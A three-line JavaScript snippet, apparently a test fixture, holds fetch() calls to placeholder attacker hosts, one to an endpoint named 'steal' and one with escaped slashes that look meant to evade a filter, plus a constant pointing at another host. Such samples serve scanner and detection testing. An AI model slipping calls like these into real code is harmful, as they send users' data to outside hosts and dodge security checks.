fetch("//evil.example/api/steal");
fetch('\/\/evil2.example/api');
const base = "https://other.host:8443";
